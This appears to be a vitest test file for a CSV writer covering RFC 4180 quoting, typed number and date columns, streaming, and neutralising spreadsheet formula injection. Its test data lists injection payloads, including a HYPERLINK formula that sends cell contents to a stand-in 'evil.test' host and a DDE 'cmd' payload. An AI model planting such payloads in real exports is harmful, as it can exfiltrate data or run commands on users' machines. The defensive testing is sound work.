// The one CSV writer: RFC 4180 quoting, formula injection made inert in text columns only, numbers
// that stay numbers, and a stream that reads rows only as fast as its consumer reads bytes.
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createCsvStream } from "@/lib/csv/create-csv-stream";
import { toInertText, type TCsvColumn } from "@/lib/csv/csv-columns";
import { toCsvString } from "@/lib/csv/to-csv-string";

type TRow = { note: string | null; amount: string | number | bigint | null; at: Date | null };

const COLUMNS: readonly TCsvColumn<TRow>[] = [
  { header: "note", kind: "text", value: (row) => row.note },
  { header: "amount", kind: "number", value: (row) => row.amount },
  { header: "at", kind: "datetime", value: (row) => row.at },
];

const row = (note: string | null, amount: TRow["amount"] = null, at: Date | null = null): TRow => ({ note, amount, at });

/** The records of a CSV text, header first, as any RFC 4180 reader sees them. */
const read = (csv: string): string[][] => parse(csv, { relax_column_count: false });

const INJECTIONS = ["=HYPERLINK(\"http://evil.test?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)"];

/** Lets every promise job already queued run (a stream that reads ahead would do so here). */
const settle = () => new Promise((resolve) => setImmediate(resolve));

async function readAll(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe("toCsvString", () => {
  it("writes a header row and CRLF-terminated records, UTF-8 without a byte order mark", () => {
    const csv = toCsvString(COLUMNS, [row("plain", "12", new Date("2026-11-21T10:15:00Z")), row(null)]);
    expect(csv).toBe("note,amount,at\r\nplain,12,2026-11-21T10:15:00.000Z\r\n,,\r\n");
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new TextEncoder().encode("not"));
  });

  it("quotes commas, quotes and line breaks (RFC 4180), and keeps unicode as is", () => {
    const notes = ["a,b", 'say "hi"', "two\nlines", "cr\ronly", "crlf\r\nend", "naïve café 東京 🚀", ""];
    const csv = toCsvString(COLUMNS, notes.map((note) => row(note)));
    expect(csv).toContain('"a,b",');
    expect(csv).toContain('"say ""hi""",');
    expect(csv).toContain('"two\nlines",');
    expect(csv).toContain('"cr\ronly",');
    expect(read(csv).slice(1).map((record) => record[0])).toEqual(notes);
  });

  it("makes every formula payload in a text column inert with a leading single quote", () => {
    const csv = toCsvString(COLUMNS, INJECTIONS.map((note) => row(note)));
    const cells = read(csv).slice(1).map((record) => record[0]);
    expect(cells).toEqual(INJECTIONS.map((payload) => `'${payload}`));
    for (const cell of cells) expect(cell?.startsWith("'")).toBe(true);
    // Also in the raw text: the quote is inside the field, where a spreadsheet sees it.
    expect(csv).toContain("\r\n\"'=HYPERLINK(");
    expect(csv).toContain("\r\n'-2+3,");
    expect(csv).toContain("\r\n'@SUM(1),");
  });

  it("leaves text that does not start a formula alone (a formula character later on is harmless)", () => {
    const notes = ["a=1", "1-2", "'quoted", " =1", "e@mail.test"];
    expect(read(toCsvString(COLUMNS, notes.map((note) => row(note)))).slice(1).map((record) => record[0])).toEqual(notes);
  });

  it("writes negative and decimal numbers in a number column as plain numbers", () => {
    const amounts = ["-5", "-0.25", "0", "12.000000000001", "-1e-7", -5, -0.25, 3, -3n, 10n ** 30n];
    const cells = read(toCsvString(COLUMNS, amounts.map((amount) => row(null, amount)))).slice(1).map((record) => record[1]);
    expect(cells).toEqual(["-5", "-0.25", "0", "12.000000000001", "-1e-7", "-5", "-0.25", "3", "-3", "1000000000000000000000000000000"]);
  });

  it("refuses anything but a number in a number column, naming the column", () => {
    for (const amount of ["-2+3", "=1", "@SUM(1)", "abc", "", " 5", "+5", "5 ", "1,5", "0x10", Number.NaN, Number.POSITIVE_INFINITY]) {
      expect(() => toCsvString(COLUMNS, [row("x", amount)]), String(amount)).toThrow(/"amount" .*number/);
    }
  });

  it("writes instants as ISO 8601 UTC and refuses an invalid date", () => {
    const at = new Date(Date.UTC(2026, 0, 31, 23, 59, 59, 999));
    expect(read(toCsvString(COLUMNS, [row(null, null, at)]))[1]?.[2]).toBe("2026-01-31T23:59:59.999Z");
    expect(() => toCsvString(COLUMNS, [row(null, null, new Date("nope"))])).toThrow(/"at" is a datetime column/);
  });

  it("round-trips any text through csv-parse (the inert prefix aside)", () => {
    const text = fc.string({ unit: "binary", maxLength: 40 });
    fc.assert(
      fc.property(fc.array(fc.tuple(text, text), { maxLength: 8 }), (pairs) => {
        const columns: readonly TCsvColumn<[string, string]>[] = [
          { header: "a", kind: "text", value: (pair) => pair[0] },
          { header: "b", kind: "text", value: (pair) => pair[1] },
        ];
        const records = read(toCsvString(columns, pairs));
        expect(records).toEqual([["a", "b"], ...pairs.map(([a, b]) => [toInertText(a), toInertText(b)])]);
      }),
      { numRuns: 300 },
    );
  });
});

describe("createCsvStream", () => {
  const manyRows = (count: number) => Array.from({ length: count }, (_, index) => row(index % 7 === 0 ? `=${index}` : `note, ${index}`, `-${index}.5`));

  it("streams exactly what toCsvString writes, across chunk boundaries", async () => {
    const rows = manyRows(500);
    const expected = toCsvString(COLUMNS, rows);
    expect(await readAll(createCsvStream(COLUMNS, rows))).toBe(expected);
    expect(await readAll(createCsvStream(COLUMNS, rows, { chunkChars: 1 }))).toBe(expected);
    async function* slowly() {
      for (const item of rows) yield item;
    }
    expect(await readAll(createCsvStream(COLUMNS, slowly(), { chunkChars: 100 }))).toBe(expected);
  });

  it("writes only the header for no rows", async () => {
    expect(await readAll(createCsvStream(COLUMNS, []))).toBe("note,amount,at\r\n");
  });

  it("reads rows only as the consumer pulls, and ends the source when the consumer cancels", async () => {
    let produced = 0;
    let finished = false;
    async function* source() {
      try {
        for (const item of manyRows(1_000)) {
          produced += 1;
          yield item;
        }
      } finally {
        finished = true;
      }
    }
    const stream = createCsvStream(COLUMNS, source(), { chunkChars: 200 });
    await settle();
    expect(produced).toBe(0);

    const reader = stream.getReader();
    await reader.read();
    await settle();
    const afterOne = produced;
    expect(afterOne).toBeGreaterThan(0);
    expect(afterOne).toBeLessThan(20);

    await reader.read();
    expect(produced).toBeGreaterThan(afterOne);
    expect(produced).toBeLessThan(40);

    await reader.cancel();
    expect(finished).toBe(true);
    expect(produced).toBeLessThan(40);
  });

  it("errors the stream (never writes the cell) when a number column gets text, and ends the source", async () => {
    let finished = false;
    async function* source() {
      try {
        yield row("ok", "1");
        yield row("bad", "=1+1");
        yield row("never", "2");
      } finally {
        finished = true;
      }
    }
    await expect(readAll(createCsvStream(COLUMNS, source()))).rejects.toThrow(/"amount" is a number column/);
    expect(finished).toBe(true);
  });
});
